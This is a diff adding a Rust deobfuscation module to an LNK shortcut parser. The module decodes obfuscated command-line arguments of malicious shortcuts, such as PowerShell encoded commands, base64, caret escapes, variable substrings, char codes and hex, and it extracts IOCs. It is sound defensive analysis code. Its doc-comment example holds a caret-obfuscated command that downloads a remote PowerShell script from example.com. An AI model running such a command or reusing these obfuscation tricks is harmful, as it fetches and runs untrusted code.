@@ -0,0 +1,316 @@
+//! Decode obfuscated command line arguments.
+//!
+//! The arguments of malicious LNK files are usually encoded or obfuscated to evade detection.
+//! `deobfuscate` recognizes the common techniques and returns every decoded layer (a decoded
+//! layer could be decoded again, e.g. a caret escaped `cmd` string that runs an encoded PowerShell command).
+//!
+//! # Example
+//! ```
+//! use lnk_parser::deobfuscation::deobfuscate;
+//! let decoded = deobfuscate("/c p^o^w^e^r^s^h^e^l^l -c iwr http://example.com/a.ps1");
+//! assert_eq!(decoded.layers[0].value, "/c powershell -c iwr http://example.com/a.ps1");
+//! assert_eq!(decoded.iocs.urls, vec!["http://example.com/a.ps1"]);
+//! ```
+
+use crate::iocs::Iocs;
+use crate::LNKParser;
+use base64::{engine::general_purpose::STANDARD, Engine};
+use regex::{Captures, Regex};
+use serde::Serialize;
+use std::{collections::HashMap, sync::LazyLock};
+
+/// The maximum number of decoded layers, protects against decoding loops.
+const MAX_LAYERS: usize = 16;
+
+static ENCODED_COMMAND_REGEX: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?:^|\s)[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|encodedcomm|encodedcomma|encodedcomman|encodedcommand)\s+["']?([A-Za-z0-9+/=]{8,})"#)
+        .unwrap()
+});
+static FROM_BASE64_REGEX: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)frombase64string\(\s*["']([A-Za-z0-9+/=\s]{8,})["']\s*\)"#).unwrap()
+});
+static SET_VARIABLE_REGEX: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r#"(?i)\bset\s+"?([a-z0-9_#$@]+)=([^&"|]*)"?"#).unwrap());
+static VARIABLE_SUBSTRING_REGEX: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"%([a-zA-Z0-9_#$@]+):~(-?\d+)(?:,(-?\d+))?%").unwrap());
+static CHAR_CODE_REGEX: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)(?:\[char\]\s*(?:0x[0-9a-f]+|\d+)\s*[+,]?\s*){3,}").unwrap());
+static CHAR_CODE_VALUE_REGEX: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"(?i)\[char\]\s*(0x[0-9a-f]+|\d+)").unwrap());
+static CHAR_ARRAY_REGEX: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(
+        r"\(\s*((?:0x[0-9a-fA-F]{1,2}|\d{1,3})(?:\s*,\s*(?:0x[0-9a-fA-F]{1,2}|\d{1,3})){3,})\s*\)",
+    )
+    .unwrap()
+});
+static HEX_REGEX: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"\b(?:[0-9a-fA-F]{2}){8,}\b").unwrap());
+
+/// Default values of the environment variables used in `%VAR:~x,y%` substring tricks.
+const DEFAULT_ENVIRONMENT: &[(&str, &str)] = &[
+    ("comspec", "C:\\Windows\\system32\\cmd.exe"),
+    ("systemroot", "C:\\Windows"),
+    ("windir", "C:\\Windows"),
+    ("systemdrive", "C:"),
+    ("programdata", "C:\\ProgramData"),
+    ("programfiles", "C:\\Program Files"),
+    ("public", "C:\\Users\\Public"),
+    ("allusersprofile", "C:\\ProgramData"),
+    ("commonprogramfiles", "C:\\Program Files\\Common Files"),
+    ("os", "Windows_NT"),
+    (
+        "pathext",
+        ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC",
+    ),
+    ("processor_architecture", "AMD64"),
+];
+
+/// A decoded representation of the arguments.
+#[derive(Debug, Serialize, Clone, PartialEq, Eq)]
+pub struct DecodedLayer {
+    /// The technique that was decoded (e.g. `powershell_encoded_command`).
+    pub technique: &'static str,
+    pub value: String,
+}
+
+/// The decoded layers of the arguments and the IOCs found in them.
+#[derive(Debug, Serialize, Clone, PartialEq, Eq)]
+pub struct DecodedArguments {
+    pub raw: String,
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    pub layers: Vec<DecodedLayer>,
+    /// The IOCs found in the raw arguments and all the decoded layers.
+    #[serde(skip_serializing_if = "Iocs::is_empty")]
+    pub iocs: Iocs,
+}
+
+impl DecodedArguments {
+    /// `true` if nothing was decoded and no IOCs were found.
+    pub fn is_empty(&self) -> bool {
+        self.layers.is_empty() && self.iocs.is_empty()
+    }
+}
+
+impl LNKParser {
+    /// Decode the obfuscated `command_line_arguments` and extract their IOCs, `None` if there are
+    /// no arguments or nothing was found.
+    pub fn deobfuscated_arguments(&self) -> Option<DecodedArguments> {
+        self.get_command_line_arguments()
+            .as_ref()
+            .map(|arguments| deobfuscate(&arguments.to_string()))
+            .filter(|decoded| !decoded.is_empty())
+    }
+}
+
+/// Decode the obfuscated command line arguments and extract the IOCs.
+pub fn deobfuscate(arguments: &str) -> DecodedArguments {
+    let mut layers: Vec<DecodedLayer> = vec![];
+    let mut pending = vec![arguments.to_string()];
+    while let Some(value) = pending.pop() {
+        for (technique, decoded) in decode(&value) {
+            if layers.len() >= MAX_LAYERS {
+                break;
+            }
+            if decoded == arguments || layers.iter().any(|layer| layer.value == decoded) {
+                continue;
+            }
+            pending.push(decoded.to_owned());
+            layers.push(DecodedLayer {
+                technique,
+                value: decoded,
+            });
+        }
+    }
+
+    let mut iocs = Iocs::extract_from(arguments);
+    for layer in &layers {
+        iocs.extract(&layer.value);
+    }
+
+    DecodedArguments {
+        raw: arguments.to_string(),
+        layers,
+        iocs,
+    }
+}
+
+/// Run all the decoders on the value.
+fn decode(value: &str) -> Vec<(&'static str, String)> {
+    let mut decoded = vec![];
+    for captures in ENCODED_COMMAND_REGEX.captures_iter(value) {
+        if let Some(command) = decode_base64(&captures[1]) {
+            decoded.push(("powershell_encoded_command", command));
+        }
+    }
+    for captures in FROM_BASE64_REGEX.captures_iter(value) {
+        let data = captures[1].split_whitespace().collect::<String>();
+        if let Some(data) = decode_base64(&data) {
+            decoded.push(("base64", data));
+        }
+    }
+    if value.contains('^') {
+        decoded.push(("cmd_caret_escape", remove_carets(value)));
+    }
+    if VARIABLE_SUBSTRING_REGEX.is_match(value) {
+        if let Some(expanded) = expand_variable_substrings(value) {
+            decoded.push(("cmd_variable_substring", expanded));
+        }
+    }
+    if let Some(chars) = decode_char_codes(value) {
+        decoded.push(("char_codes", chars));
+    }
+    for hex in HEX_REGEX.find_iter(value) {
+        if let Some(data) = decode_hex(hex.as_str()) {
+            decoded.push(("hex", data));
+        }
+    }
+    decoded
+}
+
+/// Decode base64 data as UTF-16LE (PowerShell encoded commands) or UTF-8 text.
+fn decode_base64(data: &str) -> Option<String> {
+    let data = STANDARD.decode(data.trim()).ok()?;
+    bytes_to_text(&data)
+}
+
+/// Convert bytes to text if they are printable UTF-16LE or UTF-8.
+fn bytes_to_text(data: &[u8]) -> Option<String> {
+    // ASCII text encoded as UTF-16LE has the high byte of most of the characters set to zero
+    let looks_utf16 = data.len() >= 2
+        && data.len().is_multiple_of(2)
+        && data.iter().skip(1).step_by(2).filter(|b| **b == 0).count() * 2 >= data.len() / 2;
+    let text = if looks_utf16 {
+        let units = data
+            .chunks_exact(2)
+            .map(|c| u16::from_le_bytes([c[0], c[1]]))
+            .collect::<Vec<u16>>();
+        String::from_utf16(&units).ok()?
+    } else {
+        String::from_utf8(data.to_vec()).ok()?
+    };
+    if is_printable(&text) {
+        Some(text)
+    } else {
+        None
+    }
+}
+
+fn is_printable(s: &str) -> bool {
+    !s.is_empty()
+        && s.chars()
+            .all(|c| !c.is_control() || c == '\r' || c == '\n' || c == '\t')
+}
+
+/// Remove the `cmd` escape character `^` (`^^` is a literal `^`).
+fn remove_carets(value: &str) -> String {
+    let mut result = String::with_capacity(value.len());
+    let mut chars = value.chars();
+    while let Some(c) = chars.next() {
+        if c == '^' {
+            if let Some(escaped) = chars.next() {
+                result.push(escaped);
+            }
+        } else {
+            result.push(c);
+        }
+    }
+    result
+}
+
+/// Expand `%VAR:~start,length%` using the variables defined with `set` in the arguments
+/// and the default values of the well known environment variables.
+fn expand_variable_substrings(value: &str) -> Option<String> {
+    let mut variables: HashMap<String, String> = DEFAULT_ENVIRONMENT
+        .iter()
+        .map(|(name, value)| (name.to_string(), value.to_string()))
+        .collect();
+    for captures in SET_VARIABLE_REGEX.captures_iter(value) {
+        variables.insert(captures[1].to_lowercase(), captures[2].to_string());
+    }
+
+    let mut expanded_any = false;
+    let expanded = VARIABLE_SUBSTRING_REGEX.replace_all(value, |captures: &Captures| {
+        let variable = match variables.get(&captures[1].to_lowercase()) {
+            Some(variable) => variable.chars().collect::<Vec<char>>(),
+            None => return captures[0].to_string(),
+        };
+        let start: i64 = captures[2].parse().unwrap_or(0);
+        let length: Option<i64> = captures.get(3).and_then(|l| l.as_str().parse().ok());
+        expanded_any = true;
+        substring(&variable, start, length)
+    });
+    if expanded_any {
+        Some(expanded.to_string())
+    } else {
+        None
+    }
+}
+
+/// `cmd` substring semantics, negative values are counted from the end of the string.
+fn substring(value: &[char], start: i64, length: Option<i64>) -> String {
+    let len = value.len() as i64;
+    let start = if start < 0 {
+        len.saturating_add(start).max(0)
+    } else {
+        start.min(len)
+    };
+    let end = match length {
+        Some(length) if length < 0 => len.saturating_add(length),
+        Some(length) => start.saturating_add(length).min(len),
+        None => len,
+    }
+    .max(start);
+    value[start as usize..end as usize].iter().collect()
+}
+
+/// Decode `[char]0x70+[char]111` sequences and `(112,111,119)` char code arrays.
+fn decode_char_codes(value: &str) -> Option<String> {
+    let mut decoded = value.to_string();
+    let mut changed = false;
+    for sequence in CHAR_CODE_REGEX.find_iter(value) {
+        let chars = CHAR_CODE_VALUE_REGEX
+            .captures_iter(sequence.as_str())
+            .filter_map(|c| parse_number(&c[1]).and_then(char::from_u32))
+            .collect::<String>();
+        if is_printable(&chars) {
+            decoded = decoded.replacen(sequence.as_str().trim_end(), &chars, 1);
+            changed = true;
+        }
+    }
+    for captures in CHAR_ARRAY_REGEX.captures_iter(value) {
+        let chars = captures[1]
+            .split(',')
+            .map(|code| parse_number(code.trim()).and_then(char::from_u32))
+            .collect::<Option<String>>();
+        if let Some(chars) = chars {
+            if is_printable(&chars) && chars.chars().any(|c| c.is_alphabetic()) {
+                decoded = decoded.replacen(&captures[0], &chars, 1);
+                changed = true;
+            }
+        }
+    }
+    if changed {
+        Some(decoded)
+    } else {
+        None
+    }
+}
+
+fn parse_number(value: &str) -> Option<u32> {
+    match value
+        .strip_prefix("0x")
+        .or_else(|| value.strip_prefix("0X"))
+    {
+        Some(hex) => u32::from_str_radix(hex, 16).ok(),
+        None => value.parse().ok(),
+    }
+}
+
+/// Decode a hex string if the decoded data is printable text.
+fn decode_hex(value: &str) -> Option<String> {
+    let data = (0..value.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&value[i..i + 2], 16).ok())
+        .collect::<Option<Vec<u8>>>()?;
+    bytes_to_text(&data)
+}